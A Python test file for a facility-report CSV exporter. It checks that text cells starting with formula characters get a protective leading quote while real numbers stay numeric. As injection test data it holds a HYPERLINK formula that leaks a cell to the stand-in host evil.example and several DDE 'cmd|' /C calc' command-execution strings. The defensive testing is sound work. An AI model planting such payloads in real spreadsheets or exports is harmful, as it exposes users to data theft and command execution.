"""A CSV report opened in a spreadsheet shows text as text: a cell of text that starts like a
formula (`=`, `+`, `-`, `@`, a tab or a carriage return, OWASP's list for CSV injection) gets a
leading `'`, so that Excel does not run a title someone typed into a task. Numbers, negative ones
too, stay numbers a spreadsheet computes with."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from facility.records import NewAlarm
from facility.site import Site, load_site
from facility.store.ops import OpsStore
from reports import Lang, Report, briefing, handover, render
from reports.model import Column, Section, text
from tests.reports.conftest import RULES, SITE, Seed, at, rules_of, schedules_of
from tests.reports.test_briefing import DAY, MORNING

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
TASK_TITLE = '=HYPERLINK("http://evil.example/?leak="&A1,"open")'
ALARM_TITLE = "+cmd|' /C calc'!A0"
DEVICE_NAME = "@SUM(1+1)*cmd|' /C calc'!A0"
REASON = "-2+3+cmd|' /C calc'!A0"


@pytest.fixture
def site(tmp_path: Path) -> Site:
    """The test estate, its pump 1 named by someone who knows spreadsheets."""
    (tmp_path / "rules.yaml").write_text(RULES)
    (tmp_path / "site.yaml").write_text(SITE.replace("name: Pump 1,", f'name: "{DEVICE_NAME}",'))
    return load_site(tmp_path / "site.yaml")


def rows(table: str) -> list[list[str]]:
    """The CSV's rows, as a spreadsheet reads them: a quoted cell may hold a line break."""
    return list(csv.reader(io.StringIO(table.removeprefix("\ufeff"), newline="")))


def cells(table: str) -> list[str]:
    return [cell for row in rows(table) for cell in row]


def is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


@pytest.mark.parametrize("lang", ["en", "zh"])
async def test_text_that_starts_like_a_formula_is_quoted_in_a_csv_report(
    site: Site, store: OpsStore, seed: Seed, lang: Lang
) -> None:
    task = await seed.task("2026-12-09 09:00", "2026-12-09 12:00", device="pump-1", title=TASK_TITLE)
    await seed.tasks.add_note(task, "\tcall the vendor", "li", "", at("2026-12-09 09:30"))
    trapped = NewAlarm("entrapment", "lift-1", "emergency", ALARM_TITLE, ALARM_TITLE, "", "", at("2026-12-09 14:00"))
    await store.alarms.raise_alarm(trapped)
    await store.alarms.set_out_of_service("pump-2", True, "\r=eng", "", REASON, at("2026-12-09 11:00"))

    morning = await briefing(site, store, DAY, now=at(MORNING), rules=rules_of(site), schedules=schedules_of(site))
    day = await handover(site, store, at("2026-12-09 08:00"), at("2026-12-09 20:00"))

    found = cells(render(morning, "csv", lang)) + cells(render(day, "csv", lang))
    for shown in (TASK_TITLE, ALARM_TITLE, DEVICE_NAME, REASON, "\r=eng", "\tcall the vendor"):
        assert "'" + shown in found, shown
        assert shown not in found, shown
    risky = [cell for cell in found if cell.startswith(FORMULA_STARTS) and not is_number(cell)]
    assert risky == []


def test_numbers_stay_numbers_and_text_that_looks_like_one_is_text() -> None:
    """A negative number is a number to compute with; the same characters typed as text are quoted,
    as the spreadsheet must not read text (which may go on: `-1+cmd...`) as anything else."""
    section = Section(
        "readings",
        text("读数", "Readings"),
        columns=[
            Column("note", text("备注", "Note")),
            Column("delta", text("变化", "Change"), "number"),
            Column("moves", text("次数", "Moves"), "count"),
        ],
        rows=[{"note": "-1.5", "delta": -1.5, "moves": -2}, {"note": "+", "delta": 0.25, "moves": 3}],
    )
    report = Report(
        "briefing", text("简报", "Briefing"), "estate", "Test", "Asia/Shanghai", 0, 1, 0, None, None, [section]
    )
    assert rows(render(report, "csv", "en")) == [
        ["section", "Note", "Change", "Moves"],
        ["Readings", "'-1.5", "-1.5", "-2"],
        ["Readings", "'+", "0.25", "3"],
    ]
